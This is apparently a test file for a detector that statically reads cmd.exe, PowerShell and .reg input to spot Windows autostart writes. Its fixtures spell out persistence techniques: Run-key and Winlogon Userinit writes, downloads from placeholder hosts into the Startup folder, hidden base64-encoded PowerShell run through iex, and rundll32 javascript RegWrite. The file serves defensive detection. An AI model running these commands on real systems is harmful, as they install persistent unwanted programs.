// The shell readers step by step: argv splitting, cmd.exe's body, PowerShell launch switches, the
// evaluator (concatenation, -f, -join, Join-Path, splatting, prefixes), and each write form. An
// unknown part stays unknown: never rendered as text, never guessed.

import { describe, expect, it } from 'vitest';
import { splitArgv } from '../../../shared/shell/argv';
import { splitCmdLine, cmdBody } from '../../../shared/shell/cmd';
import { readPowerShellLaunch } from '../../../shared/shell/powershell-launch';
import { readRegFile } from '../../../shared/shell/reg-file';
import { readCommandLine, readScript, type CommandLineWrite } from '../../../shared/shell';

const RUN = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const brief = (ws: readonly CommandLineWrite[]) => ws.map((w) => [w.location?.id ?? w.kind, w.valueName, w.data ?? w.targetFile]);

describe('argv (CommandLineToArgvW)', () => {
  it('splits by the backslash and quote rules', () => {
    expect(splitArgv('"C:\\a b\\x.exe" a\\\\"b c" d\\"e "f""g" h\\\\i').args).toEqual(['a\\b c', 'd"e', 'f"g h\\\\i']); // "" inside quotes: one quote and quoting ends (the three-quote rule)
    expect(splitArgv('"C:\\a b\\x.exe" a\\\\"b c" d\\"e "f""g" h\\\\i').program).toBe('C:\\a b\\x.exe');
  });
});

describe('cmd.exe', () => {
  it('cuts at & && || | and ( ), removes carets outside quotes, takes redirections off', () => {
    const cs = splitCmdLine('r^e^g add "a^b" & (echo x > "C:\\t y.txt") || set A=1');
    expect(cs.map((c) => c.text)).toEqual(['reg add "a^b"', 'echo x', 'set A=1']);
    expect(cs[1].redirects).toEqual([{ append: false, target: 'C:\\t y.txt' }]);
  });
  it('strips the outer quotes of /c unless they hold one program path', () => {
    expect(cmdBody('/q /c "reg add x /f"')?.body).toBe('reg add x /f');
    expect(cmdBody('/c "C:\\Program Files\\x.exe"')?.body).toBe('"C:\\Program Files\\x.exe"');
  });
  it('knows set variables in a nested cmd and with delayed expansion, not in its own line', () => {
    expect(brief(readCommandLine('cmd /c "set K=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run& cmd /c reg add %K% /v a /d b.exe"').writes)).toEqual([['run', 'a', 'b.exe']]);
    expect(brief(readCommandLine('cmd /v:on /c "set K=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run& reg add !K! /v a /d b.exe"').writes)).toEqual([['run', 'a', 'b.exe']]);
    expect(readCommandLine('cmd /c "set K=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run& reg add %K% /v a /d b.exe"').writes).toEqual([]);
  });
  it('reads echo into a Startup folder as a file write', () => {
    expect(brief(readCommandLine('cmd /c echo start evil.exe > "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat"').writes)).toEqual([['startup-file', undefined, 'start evil.exe']]);
  });
});

describe('PowerShell launch', () => {
  it('takes -e as -EncodedCommand, -ex as -ExecutionPolicy, -c as the rest of the line', () => {
    const b64 = Buffer.from('Write-Host hi', 'utf16le').toString('base64');
    expect(readPowerShellLaunch(`-nop -w hidden -e ${b64}`, 'powershell')).toEqual({ script: 'Write-Host hi', encoded: true });
    expect(readPowerShellLaunch('-ex bypass -c Write-Host "a b"', 'powershell')).toEqual({ script: 'Write-Host a b' });
    expect(readPowerShellLaunch('x.ps1 -a', 'pwsh')).toEqual({ file: 'x.ps1' });
    expect(readPowerShellLaunch('-File x.ps1', 'powershell')).toEqual({ file: 'x.ps1' });
  });
});

describe('PowerShell evaluation', () => {
  it('concatenates, formats, joins, splats and binds unique prefixes', () => {
    expect(brief(readScript(`$k = 'HKCU:\\Software\\Microsoft\\' + "Windows\\CurrentVersion\\R{0}" -f 'un'; sp -Pat $k -Na ('a','b' -join '') -Va "c:\\x.exe"`))).toEqual([['run', 'ab', 'c:\\x.exe']]);
    expect(brief(readScript(`$p = @{ Path = '${RUN}'; Name = 'n'; Value = 'v.exe' }; Set-ItemProperty @p`))).toEqual([['run', 'n', 'v.exe']]);
    expect(brief(readScript(`New-ItemProperty -Path (Join-Path 'HKCU:\\Software\\Microsoft\\Windows' 'CurrentVersion\\Run') -Name n -PropertyType String -Value v.exe`))).toEqual([['run', 'n', 'v.exe']]);
  });
  it('leaves what it cannot evaluate unknown', () => {
    // the data comes from a web request: the write is there, its data is not
    expect(brief(readScript(`$d = (iwr http://x/y).Content; Set-ItemProperty ${RUN} n $d`))).toEqual([['run', 'n', undefined]]);
    // the key is unknown: no write
    expect(readScript('Set-ItemProperty $unknownKey n v.exe')).toEqual([]);
    // -P is ambiguous (Path, PassThru, PSPath ...), as PowerShell says too: nothing is bound by guess
    expect(readScript(`Set-ItemProperty -P ${RUN} n v.exe`)).toEqual([]);
  });
  it('decodes FromBase64String + GetString and runs it with iex', () => {
    const inner = Buffer.from(`Set-ItemProperty ${RUN} n v.exe`, 'utf16le').toString('base64');
    expect(brief(readScript(`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${inner}')))`))).toEqual([['run', 'n', 'v.exe']]);
  });
});

describe('write forms', () => {
  it.each([
    ['Registry::SetValue', `[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'n', 'v.exe')`],
    ['OpenSubKey(.., $true).SetValue', `[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true).SetValue('n', 'v.exe')`],
    ['CreateSubKey().SetValue', `$k = [Microsoft.Win32.Registry]::CurrentUser.CreateSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run'); $k.SetValue('n', 'v.exe')`],
    ['WScript.Shell RegWrite', `(New-Object -ComObject WScript.Shell).RegWrite('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\n', 'v.exe', 'REG_SZ')`],
    ['Invoke-WmiMethod StdRegProv', `Invoke-WmiMethod -Namespace root\\default -Class StdRegProv -Name SetStringValue -ArgumentList 2147483649, 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'v.exe', 'n'`],
    ['Invoke-CimMethod StdRegProv', `Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName SetStringValue -Arguments @{hDefKey=[uint32]2147483649; sSubKeyName='Software\\Microsoft\\Windows\\CurrentVersion\\Run'; sValueName='n'; sValue='v.exe'}`],
    ['[wmiclass] StdRegProv', `([wmiclass]'root\\default:StdRegProv').SetStringValue(2147483649, 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'n', 'v.exe')`],
    ['reg.exe from a script', `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v n /d v.exe /f`],
    ['Set-Location + relative path', `cd HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion; Set-ItemProperty .\\Run n v.exe`],
    ['reg import of a .reg the script wrote', `Set-Content C:\\t\\x.reg "Windows Registry Editor Version 5.00\`r\`n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\`r\`n\`"n\`"=\`"v.exe\`""; reg import C:\\t\\x.reg`],
  ])('reads %s', (_name, script) => {
    expect(brief(readScript(script))).toEqual([['run', 'n', 'v.exe']]);
  });
  it('reads a read-modify-write of Userinit as the appended program', () => {
    const ws = readScript(`$o = (Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon').Userinit; Set-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' Userinit ($o + ',C:\\x.exe')`);
    expect(ws.map((w) => [w.location?.id, w.data, w.appended])).toEqual([['winlogon-userinit', 'C:\\x.exe', true]]);
  });
  it('reads Startup-folder file writes', () => {
    const startup = '$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup';
    expect(brief(readScript(`Invoke-WebRequest http://x/a.exe -OutFile "${startup}\\a.exe"`))).toEqual([['startup-file', undefined, '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe']]);
    expect(brief(readScript(`'start x' | Out-File "${startup}\\b.bat"`))).toEqual([['startup-file', undefined, 'start x']]);
    expect(brief(readScript(`(New-Object Net.WebClient).DownloadFile('http://x/c.exe', [Environment]::GetFolderPath('Startup') + '\\c.exe')`))).toEqual([['startup-file', undefined, '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\c.exe']]);
  });
  it('reads mshta vbscript / rundll32 javascript RegWrite and wmic StdRegProv', () => {
    expect(brief(readCommandLine('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\n","v.exe");').writes)).toEqual([['run', 'n', 'v.exe']]);
    expect(brief(readCommandLine('wmic /namespace:\\\\root\\default path stdregprov call SetStringValue hDefKey="&H80000001", sSubKeyName="Software\\Microsoft\\Windows\\CurrentVersion\\Run", sValueName="n", sValue="v.exe"').writes)).toEqual([['run', 'n', 'v.exe']]);
  });
  it('parses .reg text: strings, default, hex(2), deletions', () => {
    const v = readRegFile('REGEDIT4\r\n[HKEY_CURRENT_USER\\Run]\r\n@="d"\r\n"a"="C:\\\\x \\"q\\""\r\n"b"=hex(2):43,00,3a,00,\\\r\n  5c,00,00,00\r\n"c"=-\r\n[-HKEY_CURRENT_USER\\X]\r\n"z"="no"');
    expect(v.map((x) => [x.valueName, x.data])).toEqual([['(Default)', 'd'], ['a', 'C:\\x "q"'], ['b', 'C:\\']]);
  });
});
